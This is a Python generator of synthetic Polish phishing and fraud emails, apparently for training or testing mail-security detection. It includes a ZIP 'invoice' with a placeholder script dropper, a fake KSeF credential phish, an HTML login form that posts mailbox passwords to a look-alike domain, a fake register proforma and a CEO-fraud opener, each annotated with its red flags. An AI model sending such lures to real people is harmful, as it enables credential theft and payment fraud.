"""Polish attack messages (22-26)."""
import banking as B
import infra as I
import mime as M
import pdf
import threads as T
import util as U
import zipc
from msg import Msg, alt, hdrs_apple, hdrs_phpmailer, hdrs_roundcube, hdrs_thunderbird

NIP = B.pl_nip("527281946")


def a22():
    m = Msg("attack", 22, "pl", "thread-hijack-partner-passworded-zip")
    r = m.rng
    m.t = I.at(2026, 11, 25, 13, 16, 40, "EU")
    cip = "5.%d.%d.%d" % (r.randint(180, 183), r.randint(0, 255), r.randint(2, 250))
    m.env = env = I.homepl(r, m.t, cip, webmail=True)
    m.rcpt = "malgorzata.lukasik@example.com"
    m.mailfrom = "t.zielinski@partner-logistik.pl"
    pw = "PL2611"
    m.zip_password = pw
    inner = "Faktura_korygujaca_FK_0042_2026.pdf.js"
    z = zipc.make_zip([(inner, U.placeholder("would be a JScript dropper"), (2026, 11, 25, 13, 2, 18))], password=pw, seed=m.key)
    body = [
        "Dzień dobry Pani Małgorzato,",
        "",
        "w nawiązaniu do dostawy z 16.11 przesyłam w załączniku fakturę korygującą FK/0042/2026 do faktury zbiorczej za listopad (korekta kosztu transportu i dwóch zasilaczy zwróconych na magazyn).",
        "",
        "Zgodnie z naszą nową polityką ochrony danych plik jest zabezpieczony hasłem: %s" % pw,
        "",
        "Proszę o zaksięgowanie korekty przed płatnością, kwota do zapłaty zmienia się na 41 380,20 zł brutto.",
        "",
        "Z poważaniem",
        "Tadeusz Zieliński",
        "Key Account Manager",
        "Partner Logistik sp. z o.o.",
    ]
    quote = ["", "W dniu %s, Tadeusz Zieliński napisał(a):" % "9.11.2026 o 14:47"] + ["> " + l if l else ">" for l in T.PARTNER_R_BODY]
    text = M.paras_to_text(body + quote)
    msgid = "<%s@partner-logistik.pl>" % I.rhex(r, 32)
    m.headers = hdrs_roundcube(m.t, M.addr("Tadeusz Zieliński", "t.zielinski@partner-logistik.pl", "UTF-8", "B"),
                               M.addr("Małgorzata Łukasik", "malgorzata.lukasik@example.com", "UTF-8", "B"),
                               M.hdr_text("Re: " + T.PARTNER_SUBJ, "UTF-8", "B"), msgid, "t.zielinski@partner-logistik.pl",
                               ver="1.6.8", reply=(T.PARTNER_R_ID, "%s\n %s" % (T.PARTNER_Q_ID, T.PARTNER_R_ID)))
    b = env.boundary
    m.body = M.multipart("mixed", [
        M.text_part(text, "plain", "utf-8", "base64", label="UTF-8", ct_style="plain"),
        M.attachment(z, "application/zip", "FK_0042_2026.zip", describe="ZipCrypto ZIP (password %s in body) with %s (placeholder)" % (pw, inner)),
    ], b(0))
    m.what = "Thread hijack from the compromised Partner Logistik mailbox: reply in the real delivery thread with a password-protected ZIP 'corrective invoice' (.pdf.js inside)"
    m.why = ("Genuine account and home.pl infrastructure, but webmail login from a foreign VPN range (%s), unusual password-protected archive with password in the mail, "
             "double extension .pdf.js (script dropper); Partner Logistik normally sends plain PDF invoices from ksiegowosc@ (business/22) and replies via Outlook (business/24)" % cip)
    return m


def a23():
    m = Msg("attack", 23, "pl", "ksef-token-credential-phish")
    r = m.rng
    m.t = I.at(2026, 10, 13, 7, 50, 26, "EU")
    host = "srv%d.hstgr.cloud" % r.randint(400000, 899999)
    m.env = env = I.postfix_server(r, m.t, host, "147.79.%d.%d" % (r.randint(64, 127), r.randint(2, 250)), client_ip="127.0.0.1",
                                   local_submit=True, client_helo="localhost")
    env.boundary = I.b_phpmailer(r)
    m.rcpt = "malgorzata.lukasik@example.com"
    m.mailfrom = "www-data@%s" % host
    link = "https://ksef-mf-gov.pl/uwierzytelnienie/?nip=%s&t=%s" % (NIP, I.rhex(r, 16))
    paras = [
        "Krajowy System e-Faktur",
        "",
        "Podmiot: EXAMPLE GROUP POLSKA SP. Z O.O.",
        "NIP: %s" % B.fmt_nip(NIP),
        "",
        "Szanowni Państwo,",
        "",
        "informujemy, że token uwierzytelniający wykorzystywany przez Państwa system finansowo-księgowy do komunikacji z KSeF utracił ważność w związku z aktualizacją certyfikatów KSeF 2.0. Do czasu ponownej autoryzacji faktury ustrukturyzowane wystawiane przez Państwa podmiot nie będą przyjmowane, a faktury zakupowe nie będą udostępniane.",
        "",
        "Aby uniknąć wstrzymania obrotu fakturami i sankcji przewidzianych w art. 106gb ustawy o VAT, prosimy o ponowne uwierzytelnienie w ciągu 48 godzin (profil zaufany, podpis kwalifikowany lub logowanie przez bankowość elektroniczną).",
        "",
        "Uwierzytelnij: %s" % link,
        "",
        "Wiadomość wygenerowana automatycznie. Prosimy na nią nie odpowiadać.",
        "Ministerstwo Finansów – Krajowy System e-Faktur",
    ]
    text = M.paras_to_text(paras)
    html = M.simple_html("<div style=\"max-width:640px;margin:0 auto;background:#fff;font-family:Arial,sans-serif;font-size:14px;color:#1b1b1b\">"
                         "<div style=\"background:#dc143c;height:6px\"></div><div style=\"padding:18px 24px;font-size:20px;font-weight:bold\">Krajowy System <span style=\"color:#dc143c\">e-Faktur</span></div><div style=\"padding:0 24px 24px\">"
                         + "".join("<p>%s</p>" % M.esc(p) for p in paras[2:] if p and not p.startswith("Uwierzytelnij"))
                         + "<p><a href=\"%s\" style=\"background:#0052a5;color:#fff;padding:11px 22px;text-decoration:none\">Uwierzytelnij podmiot</a></p></div></div>" % link,
                         "UTF-8", "KSeF")
    m.headers = hdrs_phpmailer(m.t, "malgorzata.lukasik@example.com", M.addr("KSeF – Ministerstwo Finansów", "powiadomienia@ksef-mf.pl", "UTF-8", "B"),
                               M.hdr_text("KSeF: utrata ważności tokena – faktury nie są przyjmowane (NIP %s)" % B.fmt_nip(NIP), "UTF-8", "B"),
                               "<%s@ksef-mf.pl>" % I.rstr(r, 43), ver="6.10.0")
    m.body = alt(text, html, "utf-8", "quoted-printable", "quoted-printable", env.boundary(0), label="UTF-8")
    m.what = "KSeF (Polish national e-invoicing system) phishing: 'token expired, invoices rejected', link asks for Profil Zaufany / bank login"
    m.why = ("KSeF does not e-mail token expiries; domains ksef-mf.pl / ksef-mf-gov.pl are not podatki.gov.pl or mf.gov.pl; PHPMailer on a Hostinger VPS; "
             "threat of sanctions and 48-hour deadline; harvests government-ID or banking credentials")
    return m


def a24():
    m = Msg("attack", 24, "pl", "courier-html-attachment-credential-form")
    r = m.rng
    m.t = I.at(2026, 11, 4, 12, 28, 3, "EU")
    server = "s%d.cyber-folks.pl" % r.randint(10, 160)
    m.env = env = I.exim_cpanel(r, m.t, server, "178.217.%d.%d" % (r.randint(184, 191), r.randint(2, 250)), "sklep-rowerowy-lipa.pl",
                                auth_user="biuro@sklep-rowerowy-lipa.pl", client_ip="91.%d.%d.%d" % (r.randint(200, 215), r.randint(0, 255), r.randint(2, 250)),
                                client_helo="[192.168.0.14]")
    m.rcpt = "pawel.wrobel@example.com"
    m.mailfrom = "biuro@sklep-rowerowy-lipa.pl"
    parcel = "100063847263%s" % r.choice("UV")
    text = M.paras_to_text([
        "Szanowny Kliencie,",
        "",
        "przesyłka nr %s nadana przez: Lieferant GmbH (DE) nie mogła zostać doręczona pod adres: ul. Łopuszańska 95, 02-457 Warszawa, z powodu niekompletnych danych odbiorcy (brak numeru lokalu / osoby kontaktowej)." % parcel,
        "",
        "Przesyłka oczekuje w terminalu DPD Warszawa-Okęcie. Aby ustalić nowy termin doręczenia, otwórz załączony formularz potwierdzenia i zaloguj się adresem e-mail, na który wysłano awizo.",
        "",
        "Brak potwierdzenia w ciągu 48 godzin spowoduje zwrot przesyłki do nadawcy.",
        "",
        "Pozdrawiamy",
        "Zespół DPD Polska",
    ])
    form = """<!DOCTYPE html>
<html lang="pl"><head><meta charset="utf-8"><title>DPD Polska - potwierdzenie odbiorcy</title>
<style>body{font-family:Arial,sans-serif;background:#f0f0f0}.w{max-width:420px;margin:60px auto;background:#fff;padding:26px;border-top:5px solid #dc0032}
input{width:100%%;padding:9px;margin:6px 0 14px;border:1px solid #bbb;box-sizing:border-box}button{background:#dc0032;color:#fff;border:0;padding:11px;width:100%%;font-weight:bold}</style></head>
<body><div class="w"><h2 style="color:#414042">DPD<span style="color:#dc0032">&#9632;</span> Potwierdzenie danych</h2>
<p>Przesyłka <b>%s</b> - wymagana weryfikacja odbiorcy.</p>
<p style="font-size:13px;color:#666">Zaloguj się do poczty firmowej, aby pobrać etykietę i wybrać termin doręczenia.</p>
<form method="post" action="https://dpd-awizo-pl.com/odbior/confirm.php">
<label>E-mail</label><input type="email" name="login" value="pawel.wrobel@example.com">
<label>Hasło do poczty</label><input type="password" name="pass" value="">
<input type="hidden" name="id" value="%s">
<button type="submit">POTWIERDŹ I POBIERZ ETYKIETĘ</button></form></div></body></html>
""" % (parcel, I.rhex(r, 12))
    cs = "iso-8859-2"
    m.headers = hdrs_roundcube(m.t, M.addr("DPD Polska - Powiadomienia", "biuro@sklep-rowerowy-lipa.pl", cs),
                               "pawel.wrobel@example.com", M.hdr_text("Awizo: przesyłka %s oczekuje - wymagane potwierdzenie danych odbiorcy" % parcel, cs),
                               "<%s@sklep-rowerowy-lipa.pl>" % I.rhex(r, 32), "biuro@sklep-rowerowy-lipa.pl", ver="1.6.5")
    b = env.boundary
    m.body = M.multipart("mixed", [
        M.text_part(text, "plain", cs, "quoted-printable", label="ISO-8859-2", ct_style="plain"),
        M.attachment(form.encode("utf-8"), "text/html", "DPD_potwierdzenie_%s.html" % parcel, describe="local HTML login form posting credentials to dpd-awizo-pl.com (no script)"),
    ], b(0))
    m.what = "Courier (DPD) delivery-failure lure with an HTML attachment that is a local credential form for the corporate mailbox"
    m.why = ("Sent from a compromised bike-shop mailbox on cPanel hosting (authenticated sender unrelated to DPD), HTML attachment with pre-filled address and password field "
             "posting to a look-alike host; DPD never asks for the mailbox password; 48-hour pressure")
    return m


def a25():
    m = Msg("attack", 25, "pl", "fake-business-register-proforma")
    r = m.rng
    m.t = I.at(2026, 10, 28, 9, 12, 55, "EU")
    host = "vps-%s.vps.ovh.net" % I.rhex(r, 8)
    m.env = env = I.postfix_server(r, m.t, "mail.crpif-rejestr.pl", "51.%d.%d.%d" % (r.randint(68, 83), r.randint(0, 255), r.randint(2, 250)),
                                   client_ip="127.0.0.1", local_submit=True, client_helo="localhost", rdns=host)
    m.rcpt = "malgorzata.lukasik@example.com"
    m.mailfrom = "biuro@crpif-rejestr.pl"
    acc = B.pl_iban("1090101", "4000000151263980")
    cs = "windows-1250"
    text_lines = [
        "Szanowni Państwo,",
        "",
        "w związku z aktualizacją danych w Centralnym Rejestrze Przedsiębiorców i Firm przesyłamy fakturę proforma dotyczącą wpisu podmiotu:",
        "",
        "EXAMPLE GROUP POLSKA SP. Z O.O., NIP %s, KRS 0000718245" % B.fmt_nip(NIP),
        "",
        "Kwota do zapłaty: 1 480,00 zł (słownie: jeden tysiąc czterysta osiemdziesiąt złotych 00/100)",
        "Termin płatności: 7 dni",
        "Numer rachunku: %s" % " ".join([acc[2:4]] + [acc[i:i + 4] for i in range(4, 28, 4)]),
        "",
        "Opłacenie proformy jest równoznaczne z akceptacją regulaminu i zamówieniem publikacji danych w rejestrze na okres 12 miesięcy.",
        "",
        "Z poważaniem",
        "Dział Rejestracji CRPiF",
    ]
    text = M.paras_to_text(text_lines)
    doc = pdf.make_pdf([
        ("CRPiF", 18, True), "Centralny Rejestr Przedsiębiorców i Firm", "ul. Prosta 51, 00-838 Warszawa", "", "",
        ("FAKTURA PROFORMA nr 2026/10/04471", 13, True), "Data wystawienia: 27.10.2026     Termin płatności: 7 dni", "",
        "Nabywca: EXAMPLE GROUP POLSKA SP. Z O.O.", "ul. Łopuszańska 95, 02-457 Warszawa", "NIP: %s" % B.fmt_nip(NIP), "",
        "Lp. Nazwa usługi                                         Kwota", "1.  Wpis i aktualizacja danych w rejestrze CRPiF (12 mies.)   1 480,00 zł", "",
        ("Razem do zapłaty: 1 480,00 zł", 11, True), "",
        "Rachunek: %s" % " ".join([acc[2:4]] + [acc[i:i + 4] for i in range(4, 28, 4)]), "Tytuł: CRPiF/2026/10/04471", "", "",
        ("CRPiF jest prywatną bazą danych i nie jest rejestrem publicznym (KRS/CEIDG). Zapłata oznacza zamówienie usługi.", 7),
    ], title="Proforma 2026/10/04471", author="CRPiF", creator="wFirma", producer="TCPDF 6.6.2", date="D:20261027151203+01'00'")
    m.headers = hdrs_thunderbird(m.t, "Rejestracja CRPiF <biuro@crpif-rejestr.pl>", "malgorzata.lukasik@example.com",
                                 M.hdr_text("Faktura proforma 2026/10/04471 – wpis do rejestru – EXAMPLE GROUP POLSKA SP. Z O.O.", cs),
                                 "<%s@crpif-rejestr.pl>" % I.ruuid(r), lang="pl", ua="Mozilla Thunderbird")
    b = I.b_thunderbird(r)
    m.body = M.multipart("mixed", [
        M.text_part(text, "plain", cs, "quoted-printable", label="windows-1250", ct_style="plain"),
        M.attachment(doc, "application/pdf", "proforma_2026_10_04471.pdf", describe="PDF 'proforma' for a private register entry"),
    ], b(0))
    m.what = "Fake business-register pro-forma invoice (private 'Centralny Rejestr Przedsiębiorców i Firm') using the company's KRS/NIP data"
    m.why = ("Imitates official KRS/CEIDG registration fees, payment turns into a 12-month paid listing (disclaimer in 7-pt small print), "
             "unknown private domain on an OVH VPS; the company never ordered it")
    return m


def a26():
    m = Msg("attack", 26, "pl", "manager-impersonation-whatsapp-pivot")
    r = m.rng
    m.t = I.at(2026, 12, 9, 8, 55, 31, "EU")
    m.env = env = I.wppl(r, m.t, "37.%d.%d.%d" % (r.randint(30, 31), r.randint(0, 255), r.randint(2, 250)), onet=True)
    m.rcpt = "malgorzata.lukasik@example.com"
    m.mailfrom = "pawel.wrobel.waw@onet.pl"
    text = M.paras_to_text([
        "Pani Małgosiu,",
        "",
        "jestem właśnie na spotkaniu z zarządem we Frankfurcie i nie mogę rozmawiać przez telefon. Potrzebuję dziś pilnie Pani pomocy w poufnej sprawie dotyczącej nowego kontraktu – szczegóły nie mogą na razie trafić do nikogo w biurze.",
        "",
        "Proszę mi podać swój numer WhatsApp, napiszę tam wszystko, bo tak będzie szybciej.",
        "",
        "Dziękuję",
        "Paweł Wróbel",
        "",
        "Wysłane z iPhone'a",
    ])
    msgid = "<%s@onet.pl>" % I.ruuid(r, upper=True)
    m.headers = hdrs_apple(m.t, M.addr("Paweł Wróbel", "pawel.wrobel.waw@onet.pl", "utf-8"),
                           M.addr("Małgorzata Łukasik", "malgorzata.lukasik@example.com", "utf-8"),
                           M.hdr_text("Pilne", "utf-8"), msgid, mailer="iPhone Mail (22C152)")
    m.body = M.text_part(text, "plain", "utf-8", "quoted-printable", label="utf-8", ct_style="plain")
    m.what = "BEC opener: 'office manager Paweł Wróbel' from a private onet.pl address asks the accountant for her WhatsApp number for a confidential urgent matter"
    m.why = ("Impersonation via freemail, secrecy, no phone calls, moves the conversation to WhatsApp outside corporate controls (typical first step of CEO/BEC fraud); "
             "contrast business/26 (genuine private mail of a colleague)")
    return m


ALL = [a22, a23, a24, a25, a26]
